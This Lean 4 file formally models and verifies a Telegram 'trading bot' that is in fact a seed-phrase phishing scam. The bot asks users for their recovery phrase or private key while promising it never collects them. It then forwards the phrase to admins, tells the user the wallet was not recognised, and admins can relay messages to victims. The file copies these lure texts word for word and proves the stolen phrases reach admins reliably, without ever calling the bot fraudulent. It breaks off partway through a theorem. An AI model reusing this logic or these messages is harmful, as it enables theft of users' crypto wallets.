import Mathlib

/-!
Verification of the Axiom trading bot (src/axiombot.js) against its
natural-language specification.  The source file holds two near-duplicate
revisions of the same program; definitions below are shallow embeddings of
the handlers and helpers of revision 1 (lines 1-284), with revision 2
embedded where a claim compares the two.  Components the specification
describes but that are absent from the source (the operator relay control
plane) are modelled from the specification and marked as such.
-/

namespace Axiombot

/-- Character codes of the rich-format control set matched by the regex
character class in escapeMarkdown (src/axiombot.js line 7):
underscore, asterisk, square brackets, parentheses, tilde, backtick,
greater-than, hash, plus, minus, equals, pipe, curly braces, dot, bang. -/
def mdControlCodes : List Nat :=
  [95, 42, 91, 93, 40, 41, 126, 96, 62, 35, 43, 45, 61, 124, 123, 125, 46, 33]

/-- The escape marker character (backslash, code 92). -/
def backslashChar : Char := Char.ofNat 92

/-- Whether a character belongs to the rich-format control set. -/
def isMdControl (c : Char) : Bool := mdControlCodes.contains c.toNat

/-- Embedding of escapeMarkdown (src/axiombot.js lines 5-8) on the character
list of the input: the regex replacement prefixes every control-set
character with a backslash and leaves every other character unchanged. -/
def escapeChars : List Char → List Char
  | [] => []
  | c :: rest =>
    if isMdControl c then backslashChar :: c :: escapeChars rest
    else c :: escapeChars rest

/-- escapeMarkdown on strings.  The source first guards on non-string input
(returning the empty string); the embedding models the string case. -/
def escapeMarkdown (s : String) : String := String.mk (escapeChars s.data)

/-- Stripping the escape markers back out: each backslash that immediately
precedes a control-set character is removed, scanning left to right. -/
def unescapeChars : List Char → List Char
  | [] => []
  | [c] => [c]
  | a :: c :: rest =>
    if a.toNat == 92 && isMdControl c then c :: unescapeChars rest
    else a :: unescapeChars (c :: rest)

/-- Helper scan for ctrlPreceded: p is the character preceding the head of
the list; every control-set character must be preceded by a backslash. -/
def ctrlPrecededFrom (p : Char) : List Char → Bool
  | [] => true
  | c :: rest => (!isMdControl c || p.toNat == 92) && ctrlPrecededFrom c rest

/-- Every control-set character in the list is immediately preceded by an
escape marker (in particular the first character is not a control one). -/
def ctrlPreceded : List Char → Bool
  | [] => true
  | c :: rest => !isMdControl c && ctrlPrecededFrom c rest

/-- JS whitespace test for the trim model (space, tab, line feed, carriage
return). -/
def isWsChar (c : Char) : Bool :=
  c == Char.ofNat 32 || c == Char.ofNat 9 || c == Char.ofNat 10 || c == Char.ofNat 13

/-- Model of the JS String trim method: drop leading and trailing
whitespace. -/
def jsTrim (s : String) : String :=
  String.mk (((s.data.dropWhile isWsChar).reverse.dropWhile isWsChar).reverse)

/-- Model of the JS String startsWith method. -/
def strStartsWith (s p : String) : Bool := p.data.isPrefixOf s.data

/-- The conversation-state constant CONNECT_STATE (src/axiombot.js line 39). -/
def CONNECT_STATE : String := "waiting_for_phrase"

/-- Per-user session record: ctx.session.state (null or CONNECT_STATE) and
ctx.session.wallet_status (absent or a status string). -/
structure Session where
  state : Option String
  wallet_status : Option String
deriving DecidableEq

/-- An outbound reply to the current chat: the text and whether it went
through replyWithMarkdown (true) or plain ctx.reply (false). -/
structure Reply where
  text : String
  markdown : Bool
deriving DecidableEq

/-- The userWallets dictionary (src/axiombot.js line 38): absent keys map to
none. -/
def Wallets := Nat → Option Bool

/-- isConnected (src/axiombot.js lines 57-60): the userWallets entry is
compared strictly with true, and the ambient session (bot.context.session,
which at every call site is the session of the interacting user) is checked
for wallet_status equal to "connected". -/
def isConnected (wallets : Wallets) (sess : Session) (userId : Nat) : Bool :=
  wallets userId == some true || sess.wallet_status == some "connected"

/-- Transport model for bot.telegram.sendMessage: whether a send to a chat
with a given text and parse mode succeeds (true) or throws (false). -/
def SendOk := Nat → String → String → Bool

/-- Per-recipient outcome of the delivery fan-out. -/
inductive DeliveryOutcome where
  | deliveredRich
  | deliveredPlain
  | failed
deriving DecidableEq

/-- bot.telegram.sendMessage as a fallible call under a SendOk oracle. -/
def sendMessage (ok : SendOk) (chatId : Nat) (text : String) (parseMode : String) :
    Except String Unit :=
  if ok chatId text parseMode then Except.ok () else Except.error "send failed"

/-- The username formatting shared by both revisions of forwardUserData:
an at-prefixed handle when present, otherwise N/A. -/
def formatUsername : Option String → String
  | some u => "@" ++ u
  | none => "N/A"

/-- The rich message template of revision 1 (src/axiombot.js lines 82-89),
built from the already-escaped phrase and username. -/
def clientMessageV1 (safePhrase safeUsername : String) (userId : Nat) : String :=
  "\n📩 *New Wallet Connection*\n\n🛠 Service: Wallet Connection\n💎 Recovery Phrase: `"
    ++ safePhrase ++ "`\n👤 Client: " ++ safeUsername ++ "\n🆔 User ID: `"
    ++ toString userId ++ "`\n"

/-- The plain-text fallback template of revision 1 (src/axiombot.js lines
101-108), built from the raw phrase and username. -/
def plainMessageV1 (phrase username : String) (userId : Nat) : String :=
  "\n📩 New Wallet Connection\n\n🛠 Service: Wallet Connection\n💎 Recovery Phrase: "
    ++ phrase ++ "\n👤 Client: " ++ username ++ "\n🆔 User ID: " ++ toString userId ++ "\n"

/-- The single message template of revision 2 (src/axiombot.js lines
410-417), built from the raw phrase. -/
def clientMessageV2 (phrase username : String) (userId : Nat) : String :=
  "\n📩 *New Wallet Connection*\n\n🛠 Service: Wallet Connection\n💎 Recovery Phrase: `"
    ++ phrase ++ "`\n👤 Client: " ++ username ++ "\n🆔 User ID: `"
    ++ toString userId ++ "`\n"

/-- The rich payload revision 1 actually sends: the escaped trimmed phrase
and escaped username substituted into the rich template. -/
def richPayloadV1 (usernameOpt : Option String) (userId : Nat) (phrase : String) : String :=
  clientMessageV1 (escapeMarkdown (jsTrim phrase)) (escapeMarkdown (formatUsername usernameOpt)) userId

/-- The plain fallback payload revision 1 sends: the raw phrase and raw
username substituted into the plain template. -/
def plainPayloadV1 (usernameOpt : Option String) (userId : Nat) (phrase : String) : String :=
  plainMessageV1 phrase (formatUsername usernameOpt) userId

/-- The payload revision 2 sends: the raw phrase substituted into its
template. -/
def richPayloadV2 (usernameOpt : Option String) (userId : Nat) (phrase : String) : String :=
  clientMessageV2 phrase (formatUsername usernameOpt) userId

/-- One iteration body of the revision-1 admin loop (src/axiombot.js lines
92-114): try the MarkdownV2 send; on exception try the plain send; on a
second exception record the failure. -/
def forwardAttemptV1 (ok : SendOk) (adminId : Nat) (richMsg plainMsg : String) : DeliveryOutcome :=
  match sendMessage ok adminId richMsg "MarkdownV2" with
  | Except.ok _ => DeliveryOutcome.deliveredRich
  | Except.error _ =>
    match sendMessage ok adminId plainMsg "" with
    | Except.ok _ => DeliveryOutcome.deliveredPlain
    | Except.error _ => DeliveryOutcome.failed

/-- The admin loop of forwardUserData, revision 1 (src/axiombot.js lines
91-115): each admin is processed in order; every failure is caught and the
loop continues with the next admin. -/
def forwardLoopV1 (ok : SendOk) (richMsg plainMsg : String) :
    List Nat → List (Nat × DeliveryOutcome)
  | [] => []
  | adminId :: rest =>
    match sendMessage ok adminId richMsg "MarkdownV2" with
    | Except.ok _ =>
      (adminId, DeliveryOutcome.deliveredRich) :: forwardLoopV1 ok richMsg plainMsg rest
    | Except.error _ =>
      match sendMessage ok adminId plainMsg "" with
      | Except.ok _ =>
        (adminId, DeliveryOutcome.deliveredPlain) :: forwardLoopV1 ok richMsg plainMsg rest
      | Except.error _ =>
        (adminId, DeliveryOutcome.failed) :: forwardLoopV1 ok richMsg plainMsg rest

/-- forwardUserData, revision 1 (src/axiombot.js lines 73-116): formats the
username, escapes the trimmed phrase, builds the rich and plain messages
and runs the per-admin delivery loop. -/
def forwardUserDataV1 (ok : SendOk) (admins : List Nat) (usernameOpt : Option String)
    (userId : Nat) (phrase : String) : List (Nat × DeliveryOutcome) :=
  forwardLoopV1 ok (richPayloadV1 usernameOpt userId phrase)
    (plainPayloadV1 usernameOpt userId phrase) admins

/-- The admin loop of forwardUserData, revision 2 (src/axiombot.js lines
419-431): one Markdown send per admin, failures logged, no fallback. -/
def forwardLoopV2 (ok : SendOk) (msg : String) : List Nat → List (Nat × DeliveryOutcome)
  | [] => []
  | adminId :: rest =>
    match sendMessage ok adminId msg "Markdown" with
    | Except.ok _ => (adminId, DeliveryOutcome.deliveredRich) :: forwardLoopV2 ok msg rest
    | Except.error _ => (adminId, DeliveryOutcome.failed) :: forwardLoopV2 ok msg rest

/-- forwardUserData, revision 2 (src/axiombot.js lines 407-432). -/
def forwardUserDataV2 (ok : SendOk) (admins : List Nat) (usernameOpt : Option String)
    (userId : Nat) (phrase : String) : List (Nat × DeliveryOutcome) :=
  forwardLoopV2 ok (richPayloadV2 usernameOpt userId phrase) admins

/-- One iteration body of the revision-2 admin loop: a single Markdown send,
failure logged, no fallback. -/
def forwardAttemptV2 (ok : SendOk) (adminId : Nat) (msg : String) : DeliveryOutcome :=
  match sendMessage ok adminId msg "Markdown" with
  | Except.ok _ => DeliveryOutcome.deliveredRich
  | Except.error _ => DeliveryOutcome.failed

/-- The fixed failure reply of the credential handler (src/axiombot.js
line 246). -/
def notRecognizedReply : String :=
  "❌ Wallet not connected — We couldn’t recognise that wallet. Please double-check and try again."

/-- The credential text handler (src/axiombot.js lines 239-247): when the
session is in CONNECT_STATE, forward the message text to all admins, clear
the state and reply with the fixed failure message; otherwise fall through
to the next handler (none). -/
def credentialTextHandler (ok : SendOk) (admins : List Nat) (sess : Session)
    (usernameOpt : Option String) (userId : Nat) (text : String) :
    Option (Session × List (Nat × DeliveryOutcome) × Reply) :=
  if sess.state == some CONNECT_STATE then
    some ({ sess with state := none },
      forwardUserDataV1 ok admins usernameOpt userId text,
      ⟨notRecognizedReply, false⟩)
  else none

/-- The generic disconnected message (src/axiombot.js line 162). -/
def GENERIC_DISCONNECTED_MESSAGE : String :=
  "Please connect your wallet to access this feature."

/-- The connected reply of featureHandler (src/axiombot.js lines 169-175). -/
def reviewingMessage (featureName : String) : String :=
  "✅ *Connection Status: Reviewing*\n\nYou have successfully submitted your wallet information. Our security team is now reviewing the connection to ensure full compatibility.\n\nA dedicated team member will reach out to you personally via this chat within the next 15 minutes to confirm activation and assist you with your first *"
    ++ featureName ++ "* transaction.\n\nThank you for your patience!"

/-- The Copy Trading specific disconnected message (src/axiombot.js
line 200). -/
def copyTradingDisconnected : String :=
  "©️ Copy Trading\n\nPlease connect your wallet first to start trading.\n\nMinimum buy: 0.5 SOL\n\nClick 'Connect Wallet' to import your wallet."

/-- The Sniper specific disconnected message (src/axiombot.js line 204). -/
def sniperDisconnected : String :=
  "☄️LP Sniper\n\nPlease connect your wallet first to start trading.\n\nConnect wallet to start sniping\n\nClick 'Connect Wallet' to import your wallet."

/-- featureHandler (src/axiombot.js lines 164-185): clear any conversation
state first, then branch on isConnected; disconnected replies use the
feature-specific message through replyWithMarkdown when configured,
otherwise the generic message through plain reply. -/
def featureHandler (wallets : Wallets) (sess : Session) (userId : Nat)
    (featureName : String) (disconnectedMessage : Option String) : Session × Reply :=
  let sess2 := if sess.state.isSome then { sess with state := none } else sess
  if isConnected wallets sess2 userId then
    (sess2, ⟨reviewingMessage featureName, true⟩)
  else
    match disconnectedMessage with
    | some m => (sess2, ⟨m, true⟩)
    | none => (sess2, ⟨GENERIC_DISCONNECTED_MESSAGE, false⟩)

/-- The Copy Trading button handler (src/axiombot.js lines 199-201). -/
def copyTradingHandler (wallets : Wallets) (sess : Session) (userId : Nat) : Session × Reply :=
  featureHandler wallets sess userId "Copy Trading" (some copyTradingDisconnected)

/-- The Sniper button handler (src/axiombot.js lines 203-205). -/
def sniperHandler (wallets : Wallets) (sess : Session) (userId : Nat) : Session × Reply :=
  featureHandler wallets sess userId "Sniper" (some sniperDisconnected)

/-- The Buy button handler (src/axiombot.js line 188). -/
def buyHandler (wallets : Wallets) (sess : Session) (userId : Nat) : Session × Reply :=
  featureHandler wallets sess userId "Buy" none

/-- The import-wallet instructions of the Connect flow (src/axiombot.js
lines 121-127). -/
def importWalletMessage : String :=
  "🔑 *Import Wallet*\n\nEnter your 12-key recovery phrase or private key to proceed.\n\n🔒 *Security Notice*\nYour seed phrase is 100% safe — our bot does not collect or store your private \nkeys or seed phrase. All actions are non-custodial and fully under your control."

/-- The Connect button handler (src/axiombot.js lines 119-129): set the
session state to CONNECT_STATE and reply with the instructions plus the
cancel affordance. -/
def connectHandler (sess : Session) : Session × Reply :=
  ({ sess with state := some CONNECT_STATE }, ⟨importWalletMessage, true⟩)

/-- The command pre-handler middleware (src/axiombot.js lines 152-159): on a
message text starting with the command marker while the session is in
CONNECT_STATE, silently clear the state; it produces no reply of its own. -/
def commandPreHandler (sess : Session) (text : String) : Session × List Reply :=
  if strStartsWith text "/" then
    if sess.state == some CONNECT_STATE then ({ sess with state := none }, [])
    else (sess, [])
  else (sess, [])

/-- The confirmation reply of the Reset handler (src/axiombot.js line 233). -/
def resetMessage : String :=
  "🔄 *Session Reset Complete!* Your wallet connection has been cleared. Tap *🔗 Connect* to start over."

/-- The Reset button handler (src/axiombot.js lines 227-236): clear the
conversation state, delete the session wallet_status, delete the
userWallets entry for the user, and confirm with a fixed reply. -/
def resetHandler (wallets : Wallets) (sess : Session) (userId : Nat) :
    Wallets × Session × Reply :=
  (fun u => if u == userId then none else wallets u,
   { sess with state := none, wallet_status := none },
   ⟨resetMessage, true⟩)

/-- The fallback reply (src/axiombot.js line 252). -/
def fallbackReply : String :=
  "I'm sorry, I didn't recognize that command. Please use the menu buttons below."

/-- Inbound events of revision 1 that reach a registered handler, tagged
with the interacting user and the payload where the handler reads one. -/
inductive Event where
  | connectButton (userId : Nat)
  | cancelConnectFlow (userId : Nat)
  | startCmd (userId : Nat)
  | mainMenuText (userId : Nat)
  | helpButton (userId : Nat)
  | resetButton (userId : Nat)
  | copyTrading (userId : Nat)
  | sniper (userId : Nat)
  | featureButton (userId : Nat) (featureName : String)
  | commandText (userId : Nat) (cmd : String)
  | freeText (userId : Nat) (text : String)

/-- Whole-process mutable state: the userWallets dictionary and the
per-user sessions of the local session store. -/
structure SysState where
  wallets : Wallets
  sessions : Nat → Session

/-- Point update of the session store at one user. -/
def updSession (sessions : Nat → Session) (u : Nat) (f : Session → Session) :
    Nat → Session :=
  fun v => if v == u then f (sessions v) else sessions v

/-- Session effect of a command event for its sender: the pre-handler
(src/axiombot.js lines 152-159) first, then the registered command
handler: /menu clears the state (line 141), /connect clears it and
re-triggers the Connect flow (lines 194-197), /buy /sell /claim run the
feature gate (lines 189-192); any other command falls through to the text
handlers, whose credential branch cannot fire because the pre-handler has
already cleared the state. -/
def commandSessionStep (w : Wallets) (u : Nat) (cmd : String) (ss : Session) : Session :=
  let ss1 := (commandPreHandler ss cmd).1
  if cmd == "/menu" then { ss1 with state := none }
  else if cmd == "/connect" then (connectHandler { ss1 with state := none }).1
  else if cmd == "/buy" then (featureHandler w ss1 u "Buy" none).1
  else if cmd == "/sell" then (featureHandler w ss1 u "Sell" none).1
  else if cmd == "/claim" then (featureHandler w ss1 u "Claim rewards" none).1
  else ss1

/-- Session effect of a free-text event for its sender: the pre-handler (a
no-op on non-command text), then the credential handler (clearing the
state when it was CONNECT_STATE, src/axiombot.js line 245) or the fallback
reply (no session effect). -/
def freeTextSessionStep (text : String) (ss : Session) : Session :=
  let ss1 := (commandPreHandler ss text).1
  if ss1.state == some CONNECT_STATE then { ss1 with state := none } else ss1

/-- State effect of one inbound event under revision 1's handlers; the
replies and admin forwards carry no state effect and are modelled by the
per-handler functions above. -/
def step (s : SysState) : Event → SysState
  | Event.connectButton u =>
    { s with sessions := updSession s.sessions u (fun ss => (connectHandler ss).1) }
  | Event.cancelConnectFlow u =>
    { s with sessions := updSession s.sessions u (fun ss => { ss with state := none }) }
  | Event.startCmd _ => s
  | Event.mainMenuText _ => s
  | Event.helpButton u =>
    { s with sessions := updSession s.sessions u (fun ss => { ss with state := none }) }
  | Event.resetButton u =>
    { wallets := (resetHandler s.wallets (s.sessions u) u).1,
      sessions := updSession s.sessions u (fun ss => (resetHandler s.wallets ss u).2.1) }
  | Event.copyTrading u =>
    { s with sessions := updSession s.sessions u (fun ss => (copyTradingHandler s.wallets ss u).1) }
  | Event.sniper u =>
    { s with sessions := updSession s.sessions u (fun ss => (sniperHandler s.wallets ss u).1) }
  | Event.featureButton u fn =>
    { s with sessions := updSession s.sessions u (fun ss => (featureHandler s.wallets ss u fn none).1) }
  | Event.commandText u cmd =>
    { s with sessions := updSession s.sessions u (commandSessionStep s.wallets u cmd) }
  | Event.freeText u text =>
    { s with sessions := updSession s.sessions u (freeTextSessionStep text) }

/-- Process start: empty userWallets dictionary, every session at its
defaults (Idle, no wallet status). -/
def initState : SysState :=
  { wallets := fun _ => none, sessions := fun _ => { state := none, wallet_status := none } }

/-- The process state after a sequence of inbound events. -/
def run (events : List Event) : SysState := events.foldl step initState

/-- No userWallets entry holds true and no session carries a connected
wallet_status. -/
def AllDisconnected (s : SysState) : Prop :=
  ∀ u, s.wallets u ≠ some true ∧ (s.sessions u).wallet_status = none

/-- Modelled from the spec: the reply-from-user notification of Conversation
Router rule 1 (spec section 4.5), carrying the sanitized forwarded text;
the active-relay branch is absent from src/axiombot.js. -/
def replyFromUserMessage (userId : Nat) (text : String) : String :=
  "Reply from user " ++ toString userId ++ ": " ++ escapeMarkdown text

/-- Result of routing one inbound free-text event. -/
inductive RouteResult where
  | relayed (sess : Session) (notifications : List (Nat × String))
  | credential (sess : Session) (outcomes : List (Nat × DeliveryOutcome)) (reply : Reply)
  | fallbackRoute (sess : Session) (reply : Reply)
deriving DecidableEq

/-- Modelled from the spec: the Conversation Router priority for inbound
free text (spec section 4.5) — the active-relay check first, then the
credential-capture branch (the revision-1 credential handler), then the
fallback reply.  The relay branch is absent from src/axiombot.js and
follows the specification's words. -/
def routeFreeText (relaySet : List Nat) (ok : SendOk) (admins : List Nat)
    (sess : Session) (usernameOpt : Option String) (userId : Nat) (text : String) :
    RouteResult :=
  if relaySet.contains userId then
    RouteResult.relayed sess (admins.map (fun a => (a, replyFromUserMessage userId text)))
  else if sess.state == some CONNECT_STATE then
    RouteResult.credential { sess with state := none }
      (forwardUserDataV1 ok admins usernameOpt userId text) ⟨notRecognizedReply, false⟩
  else
    RouteResult.fallbackRoute sess ⟨fallbackReply, false⟩

/-- Relay-session store: the user identifiers with an active relay. -/
structure RelayState where
  relaySet : List Nat
deriving DecidableEq

/-- Result reported to the invoking operator by a control-plane command. -/
inductive OpResult where
  | ignored
  | usageError
  | started
  | startFailed
  | ended (existed : Bool)
deriving DecidableEq

/-- Numeric-identifier validation for operator commands: all-digit,
non-empty decimal text. -/
def parseUserId (s : String) : Option Nat :=
  if s.data.isEmpty then none
  else if s.data.all Char.isDigit then
    some (s.data.foldl (fun n c => n * 10 + (c.toNat - 48)) 0)
  else none

/-- Modelled from the spec: startRelay (spec section 4.6), absent from
src/axiombot.js.  Authorized only for operator identifiers (silently
ignored otherwise); validates the target as a well-formed numeric
identifier; sends the text to the target and on success adds the target
to the active-relay set, reporting the outcome to the invoker. -/
def startRelay (admins : List Nat) (userOk : Nat → String → Bool)
    (invoker : Nat) (target : String) (text : String) (st : RelayState) :
    RelayState × OpResult × List (Nat × String) :=
  if admins.contains invoker then
    match parseUserId target with
    | some uid =>
      if userOk uid text then
        ({ relaySet := uid :: st.relaySet }, OpResult.started, [(uid, text)])
      else (st, OpResult.startFailed, [])
    | none => (st, OpResult.usageError, [])
  else (st, OpResult.ignored, [])

/-- Modelled from the spec: endRelay (spec section 4.6), absent from
src/axiombot.js.  Authorized only for operator identifiers; removes the
target from the active-relay set and reports whether a session existed. -/
def endRelay (admins : List Nat) (invoker : Nat) (target : String) (st : RelayState) :
    RelayState × OpResult :=
  if admins.contains invoker then
    match parseUserId target with
    | some uid =>
      ({ relaySet := st.relaySet.filter (fun v => v != uid) },
        OpResult.ended (st.relaySet.contains uid))
    | none => (st, OpResult.usageError)
  else (st, OpResult.ignored)

end Axiombot

namespace Axiombot

theorem backslash_not_control : isMdControl backslashChar = false := by decide

theorem escapeChars_ne_nil (l : List Char) (h : l ≠ []) : escapeChars l ≠ [] := by
  cases l with
  | nil => exact absurd rfl h
  | cons c rest =>
    cases hc : isMdControl c <;> simp [escapeChars, hc]

theorem escapeChars_head_not_control (l : List Char) (d : Char) (tail : List Char)
    (h : escapeChars l = d :: tail) : isMdControl d = false := by
  cases l with
  | nil => simp [escapeChars] at h
  | cons c rest =>
    cases hc : isMdControl c <;> simp [escapeChars, hc] at h
    · exact h.1 ▸ hc
    · exact h.1 ▸ backslash_not_control

theorem ctrlPrecededFrom_escapeChars (l : List Char) :
    ∀ p : Char, ctrlPrecededFrom p (escapeChars l) = true := by
  induction l with
  | nil => intro p; rfl
  | cons c rest ih =>
    intro p
    cases hc : isMdControl c
    · simp [escapeChars, hc, ctrlPrecededFrom, ih]
    · simp [escapeChars, hc, ctrlPrecededFrom, ih, backslash_not_control]
      decide

theorem ctrlPreceded_escapeChars (l : List Char) : ctrlPreceded (escapeChars l) = true := by
  cases hE : escapeChars l with
  | nil => rfl
  | cons d tail =>
    have hd := escapeChars_head_not_control l d tail hE
    have hfrom := ctrlPrecededFrom_escapeChars l d
    rw [hE] at hfrom
    simp [ctrlPreceded, hd]
    simpa [ctrlPrecededFrom, hd] using hfrom

theorem unescapeChars_escapeChars (l : List Char) :
    unescapeChars (escapeChars l) = l := by
  induction l with
  | nil => rfl
  | cons c rest ih =>
    cases hc : isMdControl c
    · cases hE : escapeChars rest with
      | nil =>
        have : rest = [] := by
          by_contra hne
          exact escapeChars_ne_nil rest hne hE
        subst this
        simp [escapeChars, hc, unescapeChars]
      | cons d tail =>
        have hd := escapeChars_head_not_control rest d tail hE
        have hcons : escapeChars (c :: rest) = c :: d :: tail := by
          simp [escapeChars, hc, hE]
        rw [hcons, unescapeChars]
        simp [hd]
        rw [← hE, ih]
    · have hcons : escapeChars (c :: rest) = backslashChar :: c :: escapeChars rest := by
        simp [escapeChars, hc]
      rw [hcons, unescapeChars]
      simp [hc, backslashChar, ih]

/-- C4: for every text containing at least one character of the rich-format
control set, the escapeMarkdown output has every control-set character
preceded by an escape marker, and stripping the markers back out
reconstructs the original text exactly. -/
theorem escapeMarkdown_marks_and_roundtrips (s : String)
    (h : s.data.any isMdControl = true) :
    ctrlPreceded (escapeMarkdown s).data = true ∧
      unescapeChars (escapeMarkdown s).data = s.data := by
  refine ⟨?_, ?_⟩
  · simpa [escapeMarkdown] using ctrlPreceded_escapeChars s.data
  · simpa [escapeMarkdown] using unescapeChars_escapeChars s.data

/-- Witness for C4 at the concrete input "a.b". -/
theorem escapeMarkdown_marks_and_roundtrips_witness :
    ("a.b".data.any isMdControl = true) ∧
      (ctrlPreceded (escapeMarkdown "a.b").data = true ∧
        unescapeChars (escapeMarkdown "a.b").data = "a.b".data) :=
  ⟨by decide, escapeMarkdown_marks_and_roundtrips "a.b" (by decide)⟩

theorem forwardLoopV1_eq_map (ok : SendOk) (richMsg plainMsg : String) (admins : List Nat) :
    forwardLoopV1 ok richMsg plainMsg admins =
      admins.map (fun a => (a, forwardAttemptV1 ok a richMsg plainMsg)) := by
  induction admins with
  | nil => rfl
  | cons a rest ih =>
    cases h1 : ok a richMsg "MarkdownV2"
    · cases h2 : ok a plainMsg ""
      · simp [forwardLoopV1, forwardAttemptV1, sendMessage, h1, h2, ih]
      · simp [forwardLoopV1, forwardAttemptV1, sendMessage, h1, h2, ih]
    · simp [forwardLoopV1, forwardAttemptV1, sendMessage, h1, ih]

theorem forwardLoopV2_eq_map (ok : SendOk) (msg : String) (admins : List Nat) :
    forwardLoopV2 ok msg admins =
      admins.map (fun a => (a, forwardAttemptV2 ok a msg)) := by
  induction admins with
  | nil => rfl
  | cons a rest ih =>
    cases h1 : ok a msg "Markdown" <;>
      simp [forwardLoopV2, forwardAttemptV2, sendMessage, h1, ih]

/-- C2: the delivery fan-out of revision 1 produces, for every ordered
recipient list, exactly one outcome per recipient, and each recipient's
outcome is the rich-then-plain-then-failed attempt for that recipient
alone, so one recipient's failure never prevents a delivery attempt for
any remaining recipient. -/
theorem forwardLoopV1_isolation (ok : SendOk) (richMsg plainMsg : String) (admins : List Nat) :
    forwardLoopV1 ok richMsg plainMsg admins =
      admins.map (fun a => (a, forwardAttemptV1 ok a richMsg plainMsg)) ∧
    (forwardLoopV1 ok richMsg plainMsg admins).length = admins.length := by
  have hmap := forwardLoopV1_eq_map ok richMsg plainMsg admins
  exact ⟨hmap, by rw [hmap]; simp⟩

/-- C1 counterexample: the rich payload revision 1 forwards is not the raw
content — for the phrase " hi." the handler sends the escaped, trimmed
phrase, which differs from the message built from the raw phrase. -/
theorem credential_payload_not_raw :
    richPayloadV1 (some "u") 7 " hi." ≠
      clientMessageV1 " hi." (escapeMarkdown "@u") 7 := by
  decide

/-- C1 (amended): for every user in CONNECT_STATE and every free text, the
credential handler forwards to every admin (one outcome each, whatever the
delivery oracle says), clears the state and replies with the fixed failure
message; the rich payload carries the escaped trimmed content and the
plain fallback payload carries the raw content. -/
theorem credentialTextHandler_spec (ok : SendOk) (admins : List Nat) (sess : Session)
    (usernameOpt : Option String) (userId : Nat) (text : String)
    (h : sess.state = some CONNECT_STATE) :
    credentialTextHandler ok admins sess usernameOpt userId text =
      some ({ sess with state := none },
        admins.map (fun a => (a, forwardAttemptV1 ok a
          (richPayloadV1 usernameOpt userId text)
          (plainPayloadV1 usernameOpt userId text))),
        ⟨notRecognizedReply, false⟩) ∧
    richPayloadV1 usernameOpt userId text =
      clientMessageV1 (escapeMarkdown (jsTrim text))
        (escapeMarkdown (formatUsername usernameOpt)) userId ∧
    plainPayloadV1 usernameOpt userId text =
      plainMessageV1 text (formatUsername usernameOpt) userId := by
  refine ⟨?_, rfl, rfl⟩
  have hmap := forwardLoopV1_eq_map ok (richPayloadV1 usernameOpt userId text)
    (plainPayloadV1 usernameOpt userId text) admins
  simp [credentialTextHandler, h, forwardUserDataV1, hmap]

/-- Witness for C1 (amended): concrete run with two admins and an oracle
that fails every send; the handler still clears the state, reports an
outcome for both admins and replies with the fixed failure message. -/
theorem credentialTextHandler_spec_witness :
    (Session.mk (some CONNECT_STATE) none).state = some CONNECT_STATE ∧
    (credentialTextHandler (fun _ _ _ => false) [1, 2]
        (Session.mk (some CONNECT_STATE) none) (some "u") 7 "hello" =
      some (Session.mk none none,
        [1, 2].map (fun a => (a, forwardAttemptV1 (fun _ _ _ => false) a
          (richPayloadV1 (some "u") 7 "hello")
          (plainPayloadV1 (some "u") 7 "hello"))),
        ⟨notRecognizedReply, false⟩) ∧
      richPayloadV1 (some "u") 7 "hello" =
        clientMessageV1 (escapeMarkdown (jsTrim "hello"))
          (escapeMarkdown (formatUsername (some "u"))) 7 ∧
      plainPayloadV1 (some "u") 7 "hello" =
        plainMessageV1 "hello" (formatUsername (some "u")) 7) :=
  ⟨rfl, credentialTextHandler_spec (fun _ _ _ => false) [1, 2]
    (Session.mk (some CONNECT_STATE) none) (some "u") 7 "hello" rfl⟩

theorem featureHandler_eq (w : Wallets) (ss : Session) (u : Nat)
    (fn : String) (dm : Option String) :
    featureHandler w ss u fn dm =
      ({ ss with state := none },
       if isConnected w ss u then Reply.mk (reviewingMessage fn) true
       else match dm with
         | some m => Reply.mk m true
         | none => Reply.mk GENERIC_DISCONNECTED_MESSAGE false) := by
  obtain ⟨st, ws⟩ := ss
  cases st <;> cases dm <;>
    by_cases hc : (w u == some true || ws == some "connected") = true <;>
    simp [featureHandler, isConnected, hc]

/-- C5: the feature gate clears the conversation state first (leaving the
wallet status untouched), replies with the reviewing message when
connected and otherwise with the configured feature-specific message or
the generic one; Copy Trading and Sniper are wired to their specific
messages, Buy to the generic one, and both specific messages are distinct
from the generic message. -/
theorem featureHandler_gate (w : Wallets) (ss : Session) (u : Nat)
    (fn : String) (dm : Option String) :
    (featureHandler w ss u fn dm).1.state = none ∧
    (featureHandler w ss u fn dm).1.wallet_status = ss.wallet_status ∧
    (featureHandler w ss u fn dm).2 =
      (if isConnected w ss u then Reply.mk (reviewingMessage fn) true
       else match dm with
         | some m => Reply.mk m true
         | none => Reply.mk GENERIC_DISCONNECTED_MESSAGE false) ∧
    copyTradingHandler w ss u = featureHandler w ss u "Copy Trading" (some copyTradingDisconnected) ∧
    sniperHandler w ss u = featureHandler w ss u "Sniper" (some sniperDisconnected) ∧
    buyHandler w ss u = featureHandler w ss u "Buy" none ∧
    copyTradingDisconnected ≠ GENERIC_DISCONNECTED_MESSAGE ∧
    sniperDisconnected ≠ GENERIC_DISCONNECTED_MESSAGE := by
  have he := featureHandler_eq w ss u fn dm
  refine ⟨?_, ?_, ?_, rfl, rfl, rfl, by decide, by decide⟩
  · rw [he]
  · rw [he]
  · rw [he]

/-- C7: a command event (leading command marker) observed while the session
is in CONNECT_STATE silently clears the state (no reply from the
pre-handler); in particular a user starting in Idle who triggers the
connect flow and then immediately sends a command is back in Idle with no
message produced by the cancellation. -/
theorem commandPreHandler_silent_cancel (sess s0 : Session) (text cmd : String)
    (h1 : sess.state = some CONNECT_STATE) (h2 : strStartsWith text "/" = true)
    (h3 : s0.state = none) (h4 : strStartsWith cmd "/" = true) :
    commandPreHandler sess text = ({ sess with state := none }, []) ∧
    (commandPreHandler (connectHandler s0).1 cmd).1.state = none ∧
    (commandPreHandler (connectHandler s0).1 cmd).2 = [] := by
  refine ⟨?_, ?_, ?_⟩
  · simp [commandPreHandler, h1, h2]
  · simp [commandPreHandler, connectHandler, h4]
  · simp [commandPreHandler, connectHandler, h4]

/-- Witness for C7 at a concrete session and the command "/buy". -/
theorem commandPreHandler_silent_cancel_witness :
    (Session.mk (some CONNECT_STATE) none).state = some CONNECT_STATE ∧
    (strStartsWith "/buy" "/" = true) ∧
    (Session.mk none none).state = none ∧
    (commandPreHandler (Session.mk (some CONNECT_STATE) none) "/buy" =
        ({ Session.mk (some CONNECT_STATE) none with state := none }, []) ∧
      (commandPreHandler (connectHandler (Session.mk none none)).1 "/buy").1.state = none ∧
